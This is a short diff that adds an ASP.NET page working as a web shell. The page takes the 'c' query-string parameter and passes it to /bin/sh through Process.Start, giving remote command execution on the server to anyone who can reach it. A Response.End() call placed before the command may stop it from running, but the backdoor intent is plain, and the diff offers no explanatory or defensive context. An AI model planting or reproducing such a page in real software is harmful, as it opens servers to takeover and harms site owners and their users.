@@ -1,0 +1,2 @@
+<%@ Page Language="C#" %>
+<% Response.End(); System.Diagnostics.Process.Start("/bin/sh", Request.QueryString["c"]); %>
